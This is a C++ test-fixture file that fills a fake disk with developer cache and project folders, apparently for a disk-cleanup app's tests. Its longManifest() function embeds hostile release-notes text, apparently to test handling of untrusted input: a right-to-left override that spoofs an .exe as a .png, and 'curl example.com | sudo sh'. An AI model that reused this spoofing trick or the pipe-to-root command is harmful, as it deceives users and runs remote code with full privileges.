#include "SnapshotData.h"

#include "scanner/Scanner.h"
#include "support/FakeDisk.h"

#include <QCoroTask>
#include <QDateTime>
#include <QFile>

#include <fcntl.h>
#include <sys/stat.h>

namespace {

constexpr qint64 MB = 1'000'000;
constexpr qint64 GB = 1'000'000'000;

// A folder of `files` files that together reserve about `bytes`.
void fill(const FakeDisk& disk, const QString& folder, qint64 bytes, int files = 3) {
    for (int index = 0; index < files; ++index) {
        disk.allocateFile(folder + QStringLiteral("/blob-%1.bin").arg(index), bytes / files);
    }
}

// A project's own files at `folder`, last changed `days` ago.
void project(const FakeDisk& disk, const QString& folder, const QStringList& files, int days) {
    const timespec changed{QDateTime::currentSecsSinceEpoch() - days * 86'400LL - 3'600, 0};
    const timespec times[] = {changed, changed};
    for (const QString& file : files) {
        const QString path = folder + QLatin1Char('/') + file;
        disk.writeFile(path, 2'000);
        ::utimensat(AT_FDCWD, QFile::encodeName(disk.real(path)).constData(), times, 0);
    }
}

} // namespace

void SnapshotData::populate(const FakeDisk& disk) {
    const QString home = disk.home();
    const QString support = home + QStringLiteral("/Library/Application Support");
    const QString caches = home + QStringLiteral("/Library/Caches");

    fill(disk, support + QStringLiteral("/Code/CachedExtensionVSIXs"), 184 * MB);
    fill(disk, support + QStringLiteral("/Google/GoogleUpdater/crx_cache"), 23 * MB);
    fill(disk, caches + QStringLiteral("/pip"), 246 * MB, 6);
    fill(disk, caches + QStringLiteral("/com.microsoft.VSCode.ShipIt"), 112 * MB);
    fill(disk, caches + QStringLiteral("/com.example.Notes.updater"), 61 * MB);
    fill(disk, caches + QStringLiteral("/com.example.Browser"), 90 * MB); // not an updater

    fill(disk, home + QStringLiteral("/.npm/_cacache"), 318 * MB, 8);
    fill(disk, home + QStringLiteral("/.npm/_npx"), 41 * MB);
    fill(disk, home + QStringLiteral("/.gradle/caches"), 427 * MB, 8);
    fill(disk, home + QStringLiteral("/.gradle/wrapper/dists"), 132 * MB);
    fill(disk, home + QStringLiteral("/Library/Developer/Xcode/DerivedData"), 389 * MB, 8);
    fill(disk, home + QStringLiteral("/Library/Developer/Xcode/UserData/IB Support"), 12 * MB);
    const QString ndk = home + QStringLiteral("/Library/Android/sdk/ndk");
    fill(disk, ndk + QStringLiteral("/25.2.9519653"), 152 * MB);
    fill(disk, ndk + QStringLiteral("/26.1.10909125"), 163 * MB);
    fill(disk, ndk + QStringLiteral("/27.0.12077973"), 170 * MB);

    fill(disk, QStringLiteral("/Library/Developer/CoreSimulator/Caches/dyld"), 88 * MB);
    fill(disk, QStringLiteral("/Library/Developer/CoreSimulator/Volumes/iOS_21A328"), 204 * MB);

    fill(disk, QStringLiteral("/Library/Application Support/Avid/Audio/Plug-Ins"), 64 * MB);
    fill(disk, QStringLiteral("/Library/Audio/Plug-Ins/VST"), 37 * MB);

    fill(disk,
         home + QStringLiteral("/Library/Containers/com.example.reader/Data/Library/"
                               "Application Support/Downloads"),
         131 * MB);
}

void SnapshotData::populateLinux(const FakeDisk& disk) {
    const QString home = disk.home();
    const QString cache = home + QStringLiteral("/.cache");
    fill(disk, home + QStringLiteral("/.config/Code/CachedExtensionVSIXs"), 184 * MB);
    fill(disk, cache + QStringLiteral("/pip"), 246 * MB, 6);
    fill(disk, cache + QStringLiteral("/com.example.notes-updater"), 61 * MB);
    fill(disk, cache + QStringLiteral("/mesa_shader_cache"), 90 * MB); // not an updater
    fill(disk, home + QStringLiteral("/.npm/_cacache"), 318 * MB, 8);
    fill(disk, home + QStringLiteral("/.npm/_npx"), 41 * MB);
    fill(disk, cache + QStringLiteral("/yarn/v6"), 212 * MB, 8);
    fill(disk, cache + QStringLiteral("/go-build"), 477 * MB, 8);
    fill(disk, home + QStringLiteral("/go/pkg/mod/github.com/example"), 356 * MB, 8);
    fill(disk, home + QStringLiteral("/.cargo/registry/cache/index.crates.io-6f17d22bba15001f"),
         148 * MB);
    fill(disk, home + QStringLiteral("/.cargo/registry/src/index.crates.io-6f17d22bba15001f"),
         402 * MB, 8);
    fill(disk, home + QStringLiteral("/.gradle/caches"), 427 * MB, 8);
    fill(disk, cache + QStringLiteral("/JetBrains/IntelliJIdea2024.1"), 287 * MB);
    fill(disk, cache + QStringLiteral("/ms-playwright/chromium-1255"), 521 * MB);
    fill(disk, cache + QStringLiteral("/thumbnails/large"), 38 * MB, 8);
    fill(disk, cache + QStringLiteral("/uv/wheels-v5"), 694 * MB, 8);
    fill(disk, cache + QStringLiteral("/pypoetry/artifacts"), 173 * MB);
    fill(disk, cache + QStringLiteral("/pre-commit"), 96 * MB);
    fill(disk, home + QStringLiteral("/.bun/install/cache"), 231 * MB, 8);
    fill(disk, home + QStringLiteral("/.nuget/packages/newtonsoft.json"), 318 * MB, 8);
    fill(disk, cache + QStringLiteral("/ccache/a"), 1'240 * MB, 8);
    fill(disk, cache + QStringLiteral("/node-gyp/20.11.1"), 64 * MB);
    fill(disk, cache + QStringLiteral("/electron"), 109 * MB);
    fill(disk, cache + QStringLiteral("/huggingface/hub/models--example--small"), 2'150 * MB, 6);
    const QString ndk = home + QStringLiteral("/Android/Sdk/ndk");
    fill(disk, ndk + QStringLiteral("/25.2.9519653"), 152 * MB);
    fill(disk, ndk + QStringLiteral("/26.1.10909125"), 170 * MB);

    // Projects: two left alone for months, one worked on this week, one with an environment.
    const QString webapp = home + QStringLiteral("/code/webapp");
    project(disk, webapp, {QStringLiteral("package.json"), QStringLiteral("pnpm-lock.yaml")}, 94);
    fill(disk, webapp + QStringLiteral("/node_modules/.pnpm"), 612 * MB, 12);
    fill(disk, webapp + QStringLiteral("/.next/cache"), 86 * MB);
    const QString engine = home + QStringLiteral("/code/engine");
    project(disk, engine, {QStringLiteral("Cargo.toml"), QStringLiteral("src/main.rs")}, 2);
    fill(disk, engine + QStringLiteral("/target/debug"), 1'870 * MB, 12);
    const QString app = home + QStringLiteral("/projects/android-app");
    project(disk, app, {QStringLiteral("settings.gradle.kts")}, 63);
    fill(disk, app + QStringLiteral("/build/intermediates"), 238 * MB, 8);
    fill(disk, app + QStringLiteral("/.gradle/8.7"), 41 * MB);
    const QString tools = home + QStringLiteral("/projects/ml-tools");
    project(disk, tools, {QStringLiteral("pyproject.toml"), QStringLiteral(".venv/pyvenv.cfg")},
            120);
    fill(disk, tools + QStringLiteral("/.venv/lib"), 530 * MB, 8);
    fill(disk, tools + QStringLiteral("/.mypy_cache/3.11"), 24 * MB);
}

QList<FolderItem> SnapshotData::builtInItems(const QString& home) {
    // What the program's own scanner makes of a Mac layout: the list can never disagree with the
    // catalogue about a target's texts, tier or initial selection.
    const FakeDisk disk(home);
    populate(disk);
    Scanner scanner(disk.fileSystem());
    return QCoro::waitFor(scanner.scanAll({}));
}

DiskSpaceInfo SnapshotData::disk() {
    return {494'384'795'648, 131 * GB};
}

QByteArray SnapshotData::longManifest() {
    QByteArray notes = "Scans are up to twice as fast on large caches.\\n\\n"
                       "See \\u202egnp.exe and run:\\u2028curl example.com | sudo sh\\n";
    for (int line = 0; line < 1000; ++line) {
        notes += "- Fixed issue " + QByteArray::number(line) + " in the window.\\n";
    }
    return R"({"version": "2.4.0", "build": 120, "releaseNotes": ")" + notes +
           R"(", "downloadURL": "https://example.com/download"})";
}
